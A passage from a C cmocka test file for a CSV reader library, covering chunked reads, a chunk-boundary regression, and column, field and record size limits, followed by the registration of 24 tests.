			err_clear(&eb);
			int ra = csv_next(m, &a, &ea), rb = csv_next(f, &b, &eb);
			assert_int_equal(rb, ra);
			assert_string_equal(eb.msg, ea.msg);
			if (ra == 0)
				break;
			n++;
			assert_int_equal(b.line, a.line);
			assert_int_equal(b.nfields, a.nfields);
			assert_int_equal(b.raw_len, a.raw_len);
			assert_memory_equal(b.raw, a.raw, a.raw_len);
			for (size_t i = 0; i < a.nfields; i++)
				assert_string_equal(b.fields[i], a.fields[i]);
		}
		assert_true(n > 10000);
		csv_close(m);
		csv_close(f);
		strbuf_release(&sb);
	}
	/* A chunk that ends exactly where a record ends (the rows after it were
	 * once lost). */
	struct strbuf sb = STRBUF_INIT;
	while (sb.len < 3 * 64 * 1024)
		strbuf_adds(&sb, "abcdefg,1234567\n"); /* 16 bytes: 4096 to a chunk */
	struct csv_reader *f = open_as_file(sb.buf, sb.len);
	size_t n = 0;
	struct csv_row row;
	struct err e;
	while (csv_next(f, &row, &e) == 1)
		n++;
	assert_int_equal(n, sb.len / 16);
	csv_close(f);
	strbuf_release(&sb);
}

/* Limits: too many columns, a field or a record too long: -2, and the reading ends. */
static void test_limits(void **state)
{
	(void)state;
	struct strbuf sb = STRBUF_INIT;
	strbuf_adds(&sb, "a,b\n1,2\n");
	for (int i = 0; i <= CSV_MAX_COLUMNS; i++)
		strbuf_adds(&sb, i ? ",x" : "x");
	strbuf_adds(&sb, "\n3,4\n");
	struct csv_reader *r = open_as_file(sb.buf, sb.len);
	expect_row(r, 1, 2, "a", "b");
	expect_row(r, 2, 2, "1", "2");
	struct csv_row row;
	struct err e;
	assert_int_equal(csv_next(r, &row, &e), -2);
	assert_string_equal(e.msg, "line 3: more than 1024 columns (is this really a CSV file?)");
	assert_int_equal(csv_next(r, &row, &e), 0);
	csv_close(r);

	strbuf_reset(&sb);
	strbuf_adds(&sb, "a,b\n1,\"");
	for (int i = 0; i <= CSV_MAX_FIELD; i++)
		strbuf_addch(&sb, 'y');
	strbuf_adds(&sb, "\"\n");
	r = open_as_file(sb.buf, sb.len);
	expect_row(r, 1, 2, "a", "b");
	err_clear(&e);
	assert_int_equal(csv_next(r, &row, &e), -2);
	assert_string_equal(e.msg, "line 2: column 2 is longer than 64 KiB (is this really a CSV "
		     "file? a quote never closed?)");
	csv_close(r);

	/* A quote never closed in a big file: stopped at the record limit, not
	 * read to the end into memory. */
	strbuf_reset(&sb);
	strbuf_adds(&sb, "a,b\n\"open,x\n");
	while (sb.len < 2 * CSV_MAX_RECORD + 2 * 1024 * 1024)
		strbuf_adds(&sb, "1,2\n");
	r = open_as_file(sb.buf, sb.len);
	expect_row(r, 1, 2, "a", "b");
	assert_int_equal(csv_next(r, &row, &e), -2);
	assert_string_equal(e.msg, "line 2: a record longer than 4 MiB (is this really a CSV "
		     "file? a quote never closed?)");
	csv_close(r);
	strbuf_release(&sb);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_comma_delimiter),
		cmocka_unit_test(test_semicolon_delimiter),
		cmocka_unit_test(test_delimiter_tie_and_quotes),
		cmocka_unit_test(test_bom),
		cmocka_unit_test(test_line_ends),
		cmocka_unit_test(test_blank_lines),
		cmocka_unit_test(test_empty_fields),
		cmocka_unit_test(test_quoted_fields),
		cmocka_unit_test(test_embedded_newlines),
		cmocka_unit_test(test_raw),
		cmocka_unit_test(test_unclosed_quote),
		cmocka_unit_test(test_text_after_closing_quote),
		cmocka_unit_test(test_nul_byte),
		cmocka_unit_test(test_cp1252_input),
		cmocka_unit_test(test_cp1252_table),
		cmocka_unit_test(test_utf8_valid),
		cmocka_unit_test(test_write_field),
		cmocka_unit_test(test_formula_guard),
		cmocka_unit_test(test_write_row),
		cmocka_unit_test(test_round_trip),
		cmocka_unit_test(test_many_rows),
		cmocka_unit_test(test_open_file),
		cmocka_unit_test(test_file_chunks),
		cmocka_unit_test(test_limits),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
